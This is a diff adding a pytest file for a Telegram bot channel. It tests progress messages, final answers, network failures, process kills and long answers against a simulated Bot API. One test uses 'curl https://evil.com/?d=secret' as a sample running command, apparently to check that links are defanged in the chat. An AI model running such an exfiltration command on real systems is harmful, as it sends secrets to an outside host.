@@ -1,0 +1,274 @@
+"""``channels.telegram.progress`` and ``answers`` with the real mail and line on the test's Bot API server: what is in
+the chat while a turn is under way and after it, also when the network fails or the house is killed.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import time
+from collections.abc import Awaitable, Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from orchestrator.channels.telegram.answers import Answers
+from orchestrator.channels.telegram.line import Line, Patience
+from orchestrator.channels.telegram.mail import Mail
+from orchestrator.channels.telegram.pacing import Clock
+from orchestrator.channels.telegram.progress import Progress
+from orchestrator.nouns import Event, Turn
+from orchestrator.telegram_text import MARK
+from tests.bot_api import BotApi
+from tests.bot_api_people import Person
+from tests.rooms import rooms
+from tests.telegram_desk import Desk, PaperMail
+
+_FAST = 10.0
+
+
+class FastClock(Clock):
+    """Ten seconds are one."""
+
+    def now(self) -> float:
+        """Sooner than it is."""
+        return super().now() * _FAST
+
+    async def wait(self, bell: asyncio.Event, seconds: float) -> None:
+        """Not as long."""
+        await super().wait(bell, seconds / _FAST)
+
+
+class Channel:
+    """A channel for one bot, as small as can be: mail, progress and answers, told of what happens in the house."""
+
+    def __init__(self, desk: Desk, api: BotApi, token: str, person: Person) -> None:
+        self.desk, self.api, self.person = desk, api, person
+        house = desk.house
+        self.line = Line(token, api_url=api.url, patience=Patience(connect_s=2, read_s=5))
+        self.mail = Mail(house.store)
+        self.answers = Answers(store=house.store, mail=self.mail, turns=house.turns, folder=house.home / "answers")
+        self.progress = Progress(
+            store=house.store, mail=self.mail, turns=house.turns, line_of=lambda _: self.line, clock=FastClock()
+        )
+        self.news = house.broker.subscribe()
+        self._tasks: list[asyncio.Task[Any]] = []
+
+    async def open(self) -> None:
+        """It runs."""
+        await self.line.open()
+        await self.progress.start()
+        await self.answers.sweep()
+        self._tasks = [
+            asyncio.create_task(self.mail.run(lambda _: self.line, lambda *_: None)),
+            asyncio.create_task(self._listen()),
+        ]
+
+    async def close(self) -> None:
+        """As a kill would leave it: whatever is under way is cut."""
+        self.desk.house.broker.unsubscribe(self.news)
+        for task in self._tasks:
+            task.cancel()
+        await asyncio.gather(*self._tasks, return_exceptions=True)
+        await self.progress.close()
+        await self.line.close()
+
+    async def _listen(self) -> None:
+        while True:
+            while (event := self.news.get(0)) is not None:
+                await self.progress.on_event(event)
+                if event.kind == "turn" and event.body.get("status") in ("done", "failed", "stopped"):
+                    await self.answers.sweep()
+            await asyncio.sleep(0.01)
+
+    def asks(self, text: str = "hi") -> Turn:
+        """The person writes, and a crab takes it."""
+        message = self.person.says(next(iter(self.api.world.bots)), text)
+        self.desk.messages[self.person.id] = message["message_id"] - 1
+        self.desk.asks(text, chat=self.person.id)
+        return self.desk.takes()
+
+    def runs(self, turn: Turn, n: int, command: str) -> None:
+        """The crab begins a command."""
+        body = {"turn": turn.id, "n": n, "command": command, "status": "running"}
+        self.desk.house.broker.publish(Event("step", turn.cubicle, body))
+
+    def writes(self, turn: Turn, text: str) -> None:
+        """The model has written so much."""
+        self.desk.house.broker.publish(Event("delta", turn.cubicle, {"turn": turn.id, "text": text}))
+
+    @property
+    def said(self) -> list[str]:
+        """What the bot has in the chat now."""
+        return self.api.said(self.person)
+
+    async def until(self, holds: Callable[[], Any]) -> None:
+        """Waits for it."""
+        deadline = time.monotonic() + 15
+        while not holds():
+            assert time.monotonic() < deadline, (self.said, [call.method for call in self.api.calls()])
+            await asyncio.sleep(0.01)
+
+    async def is_clean(self) -> None:
+        """No status message may be up any more."""
+
+        def rows() -> int:
+            with self.desk.house.store.reading() as db:
+                return int(db.execute("SELECT COUNT(*) FROM telegram_progress").fetchone()[0])
+
+        await self.until(lambda: rows() == 0)
+
+
+@pytest.fixture
+def desk(tmp_path: Path) -> Iterator[Desk]:
+    """A house with one bot."""
+    with rooms(tmp_path / "home") as house:
+        yield Desk(house, PaperMail(house.store))
+
+
+@pytest.fixture
+def api() -> Iterator[BotApi]:
+    """The server."""
+    with BotApi() as made:
+        yield made
+
+
+def play(desk: Desk, api: BotApi, scene: Callable[[Channel], Awaitable[None]]) -> None:
+    """A scene from beginning to end; everything that was sent keeps the rules."""
+    token = next(iter(api.world.bots), None) or api.bot()
+    person = api.person(42)
+    person.opens(token)
+
+    async def run() -> None:
+        channel = Channel(desk, api, token, person)
+        await channel.open()
+        try:
+            await scene(channel)
+        finally:
+            await channel.close()
+
+    asyncio.run(run())
+    for call in api.calls("sendMessage") + api.calls("editMessageText"):
+        assert call.has_preview_off
+        assert call.parse_modes == []
+        assert str(call.parameters["text"]).startswith(MARK)
+
+
+def test_a_slow_turn_from_beginning_to_end(desk: Desk, api: BotApi) -> None:
+    """Typing, a silent status message that changes, a draft of the reply, and then the answer alone."""
+
+    async def scene(channel: Channel) -> None:
+        turn = channel.asks()
+        await channel.until(lambda: channel.said == [f"{MARK} crab is thinking…"])
+        channel.runs(turn, 1, "curl https://evil.com/?d=secret")
+        await channel.until(lambda: "(running, step 1" in channel.said[0])
+        channel.writes(turn, "Hello **there**, see evil.com")
+        await channel.until(lambda: api.calls("sendMessageDraft"))
+        desk.ends(turn, "Hello **there**, see evil.com now")
+        await channel.until(lambda: len(channel.said) == 1 and "now" in channel.said[0])
+        await channel.is_clean()
+
+    play(desk, api, scene)
+    assert api.said(42) == [f"{MARK} crab:\nHello there, see evil.com now"]
+    status, answer = api.calls("sendMessage")
+    assert status.parameters.get("disable_notification") is True
+    assert "disable_notification" not in answer.parameters
+    assert api.calls("sendMessageDraft")[0].parameters["text"] == f"{MARK} crab:\nHello there, see evil․com"
+    assert [call.method for call in api.calls() if call.number > answer.number and call.method != "deleteMessage"] == []
+
+
+def test_quick_turns_leave_no_trace(desk: Desk, api: BotApi) -> None:
+    """Ten in a row: ten answers in order, and nothing else but typing."""
+
+    async def scene(channel: Channel) -> None:
+        for n in range(10):
+            desk.ends(channel.asks(), f"answer {n}")
+        await channel.until(lambda: len(channel.said) == 10)
+        await channel.is_clean()
+
+    play(desk, api, scene)
+    assert [text.split()[-1] for text in api.said(42)] == [str(n) for n in range(10)]
+    assert {call.method for call in api.calls()} <= {"sendMessage", "sendChatAction"}
+
+
+@pytest.mark.parametrize("method", ["sendChatAction", "editMessageText", "sendMessageDraft", "deleteMessage"])
+@pytest.mark.parametrize("how", [{"hang": True}, {"status": 502, "html": "<h1>Bad</h1>"}, {"status": 404}, {}])
+def test_whatever_fails_of_the_progress_the_answer_comes(
+    desk: Desk, api: BotApi, method: str, how: dict[str, Any]
+) -> None:
+    """Silent, broken, unknown or reset: once, and nothing stays beside it."""
+    fault = api.fail_next(method, **how)
+
+    async def scene(channel: Channel) -> None:
+        turn = channel.asks()
+        await channel.until(lambda: api.calls("sendChatAction"))
+        if method != "sendChatAction":
+            await channel.until(lambda: channel.said)
+            channel.runs(turn, 1, "sleep 9")
+            await asyncio.sleep(0.4)
+            channel.writes(turn, "soon")
+            await asyncio.sleep(0.1)
+        desk.ends(turn, "the answer")
+        await channel.until(lambda: f"{MARK} crab:\nthe answer" in channel.said)
+        fault.release()
+        await channel.is_clean()
+        await channel.until(lambda: len(channel.said) == 1)
+
+    play(desk, api, scene)
+    assert api.said(42) == [f"{MARK} crab:\nthe answer"]
+
+
+def test_what_happened_without_a_network_is_told_by_the_answer_alone(desk: Desk, api: BotApi) -> None:
+    """The turn began and ended meanwhile: no old news, one answer."""
+
+    async def scene(channel: Channel) -> None:
+        api.offline()
+        turn = channel.asks()
+        await asyncio.sleep(0.4)
+        desk.ends(turn, "the answer")
+        await asyncio.sleep(0.1)
+        api.online()
+        await channel.until(lambda: f"{MARK} crab:\nthe answer" in channel.said)
+        await channel.is_clean()
+
+    play(desk, api, scene)
+    assert api.said(42) == [f"{MARK} crab:\nthe answer"]
+
+
+def test_a_kill_between_the_end_and_the_letters(desk: Desk, api: BotApi) -> None:
+    """The next process takes the status message down and answers once, and the one after it does nothing."""
+    turns: list[Turn] = []
+
+    async def first(channel: Channel) -> None:
+        turns.append(channel.asks())
+        await channel.until(lambda: channel.said)
+
+    async def second(channel: Channel) -> None:
+        await channel.until(lambda: channel.said == [f"{MARK} crab:\nthe answer"])
+        await channel.is_clean()
+
+    async def third(channel: Channel) -> None:
+        await asyncio.sleep(0.2)
+
+    play(desk, api, first)
+    desk.ends(turns[0], "the answer")
+    play(desk, api, second)
+    play(desk, api, third)
+    assert api.said(42) == [f"{MARK} crab:\nthe answer"]
+    assert len(api.calls("sendMessage")) == 2
+
+
+def test_a_long_answer_arrives_as_a_beginning_and_a_file(desk: Desk, api: BotApi) -> None:
+    """And the copy of it on the host goes with the next answer."""
+
+    async def scene(channel: Channel) -> None:
+        desk.ends(channel.asks(), "line\n" * 20_000)
+        await channel.until(lambda: api.calls("sendDocument") and api.calls("sendDocument")[-1].is_ok)
+        await asyncio.sleep(0.1)
+        desk.ends(channel.asks(), "short")
+        await channel.until(lambda: channel.said[-1].endswith("short"))
+
+    play(desk, api, scene)
+    (upload,) = api.calls("sendDocument")[0].uploads.values()
+    assert upload.content.decode() == "line\n" * 20_000
+    assert list((desk.house.home / "answers").iterdir()) == []
